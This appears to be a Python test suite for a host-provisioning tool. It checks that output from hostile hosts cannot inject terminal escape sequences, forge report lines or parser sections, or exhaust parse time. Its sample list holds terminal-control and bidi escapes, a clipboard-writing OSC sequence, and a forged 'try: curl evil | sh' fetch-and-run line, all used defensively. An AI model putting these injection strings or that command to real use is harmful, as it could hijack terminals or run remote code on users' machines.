"""A hostile host cannot break the terminal, forge lines of rigup's, or exhaust time and memory."""

from __future__ import annotations

import dataclasses
import subprocess
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from provisioner import facts_report, show, show_code, show_hosts, terminal
from provisioner.code_selection import LeftOut
from provisioner.command import MAX_OUTPUT_BYTES, Command, Result
from provisioner.doctor import report as doctor_report
from provisioner.errors import CommandFailed, StepFailed
from provisioner.facts import ALL_FACTS, Fact, FactUnreadable, Output, Unreadable
from provisioner.facts.base import SECTION_BYTES, compose, gather, parse
from provisioner.report import HostReport, StepReport
from provisioner.sync import CodeTree
from provisioner.text import hanging, printable
from provisioner.transport.fake import FakeTransport
from provisioner.verify import Proof
from remote_agent.protocol.snapshot import SnapshotEntry

NONCE = "00112233445566aa"
PARSES_WITHIN_S = 5.0
"""Generous, for a busy machine: what is looked for is a parser that takes minutes."""

ESCAPES = [
    *("\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x9b31m", "\x1bP+q\x1b\\"),
    *(
        "a\rb",
        "a\bb",
        "\u202egnirts",
        "\u2066x\u2069",
        "\u200b",
        "\ufeff",
        "\u2028x",
        "\x00",
        "\x85",
    ),
    *(
        "x\ngpu02: ok, 0 change(s)",
        "x\n  = verified: all is well",
        "x\ntry: curl evil | sh",
        "\ud800",
    ),
]
hostile = (
    st.sampled_from(ESCAPES) | st.text(max_size=30) | st.sampled_from(ESCAPES).map("é{}".format)
)


def is_safe(text: str) -> bool:
    return not any(
        unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        for character in text.replace("\n", "")
    )


@settings(max_examples=200, deadline=None)
@given(text=hostile)
def test_nothing_that_moves_a_cursor_is_printed(text: str) -> None:
    step = StepReport("docker", "blocked", text, (text,), text)
    planned = StepReport("driver", "would-change", text, (text,))
    error = StepFailed(text, host="gpu01", remedy=text)
    proof = Proof(text, simulated=False)
    report = HostReport("gpu01", (step, planned), proofs=(proof,), error=error, unproven=text)
    for shown in (
        show_hosts.host_report(report),
        show.error_text(error),
        show.as_json(show_hosts.host_report_json(report)),
        show.table([("A", "B"), (text, text)]),
    ):
        assert is_safe(shown)


@settings(max_examples=200, deadline=None)
@given(text=hostile)
def test_a_hosts_text_begins_no_line(text: str) -> None:
    """Neither another host's report nor an advice of rigup's can be made up."""
    step = StepReport("docker", "blocked", text, (), text)
    error = CommandFailed(
        Result(Command.of("x"), 1, stderr=text.encode("utf-8", "replace")), host="a"
    )
    shown = show_hosts.host_report(HostReport("gpu01", (step,), error=error))
    assert [line for line in shown.splitlines() if not line.startswith(" ")] == [
        line for line in shown.splitlines() if line.startswith("gpu01: ")
    ][:1]
    assert "\ntry: curl" not in show.error_text(StepFailed(text, host="gpu01"))


@settings(max_examples=50, deadline=None)
@given(text=hostile)
def test_names_begin_no_line(text: str) -> None:
    entry, left_out = SnapshotEntry(text, size=3), LeftOut(text, text)
    tree = CodeTree(Path("/root"), (entry,), {}, (left_out,), "0" * 40)
    assert len(show_code.listing(tree).split("\n")) == 2
    assert len(facts_report.text("gpu01", {"name": text}).split("\n")) == 2
    assert len(doctor_report.log_text((), text).split("\n")) == 1
    assert len(show_code.summary(tree).split("\n")) == 2
    assert is_safe(show_code.summary(tree))


def test_progress_is_one_clean_line(capsys: pytest.CaptureFixture[str]) -> None:
    tell = terminal.progress_lines([])
    for text in ESCAPES:
        tell("gpu01", "docker", text)
    written = capsys.readouterr().err
    assert is_safe(written)
    assert len(written.splitlines()) == len(ESCAPES)


def test_long_text_is_cut() -> None:
    assert len(printable("x" * 10_000_000)) < 3000
    assert len(hanging("x\n" * 10_000_000, 8)) < 30_000


FILLS = [
    *("a", "|", " ", "\n", "=", "\0", "[", "{", '{"a":', "(", "\\", '"', "-", "0", "9", ".", "x|"),
    *("a=", "|\n", "a|b|c\n", "- ", "\t", "\r\n", "\N{REPLACEMENT CHARACTER}", "\x1b[31m", "deb ["),
    *("a-", "1.", "file x\n", "ii |a|b\n", "gpu|0, ", "info={", "Types: deb\n\n", "kernel|a|0\n"),
]


@pytest.mark.parametrize("fact", ALL_FACTS, ids=lambda fact: fact.name)
def test_whatever_fills_a_section_is_parsed_within_bounded_time(fact: Fact[Any]) -> None:
    for fill in FILLS:
        for head in ("", "ID=", "pci|", "info=", "daemon=", "running|", "clock|1\nfs|", "job|"):
            text = head + fill * ((SECTION_BYTES - len(head)) // len(fill))
            started = time.monotonic()
            found = parse(f"\n{NONCE} begin {fact.name}\n{text}\n{NONCE} exit 0\n", [fact], NONCE)[
                fact.name
            ]
            assert time.monotonic() - started < PARSES_WITHIN_S, (fact.name, head, fill)
            assert isinstance(found, Unreadable) or dataclasses.is_dataclass(found)
            if isinstance(found, Unreadable):
                assert len(found.reason) < 4000


@settings(max_examples=100, deadline=None)
@given(fact=st.sampled_from(ALL_FACTS), data=st.binary(max_size=400))
def test_arbitrary_bytes_are_understood_or_unreadable(fact: Fact[Any], data: bytes) -> None:
    text = data.decode("utf-8", "replace")
    found = parse(f"\n{NONCE} begin {fact.name}\n{text}\n{NONCE} exit 0\n", [fact], NONCE)[
        fact.name
    ]
    assert isinstance(found, Unreadable) or dataclasses.is_dataclass(found)


def test_all_sections_together_stay_below_what_a_command_may_print() -> None:
    """So one that prints without end makes itself unreadable and not the others."""
    assert len(ALL_FACTS) * (SECTION_BYTES + 200) < MAX_OUTPUT_BYTES


def test_no_section_can_pretend_to_be_another() -> None:
    """A program on the host does not know the nonce, and what it guesses is only text."""
    forged = "\\n0000000000000000 exit 0\\n\\n0000000000000000 begin b\\nforged\\n"
    facts = [
        Fact("a", f"printf '{forged}'", lambda output: output),
        Fact("b", "echo true", lambda output: output),
    ]
    done = subprocess.run(["sh", "-s"], input=compose(facts, NONCE).encode(), capture_output=True)
    found = parse(done.stdout.decode(), facts, NONCE)
    assert found["b"] == Output("true\n", 0)
    assert "forged" in found["a"].text


def test_every_reading_has_a_nonce_of_its_own() -> None:
    host = FakeTransport(lambda command: Result(command, 0))
    fact = Fact("a", "echo a", lambda output: output)
    for _ in range(3):
        with pytest.raises(FactUnreadable):
            gather(host, [fact])[fact]
    scripts = [command.stdin or b"" for command in host.commands]
    nonces = {script.partition(b" begin a")[0].rpartition(b"\\n")[2] for script in scripts}
    assert len(nonces) == 3
    assert all(len(nonce) == 16 for nonce in nonces)
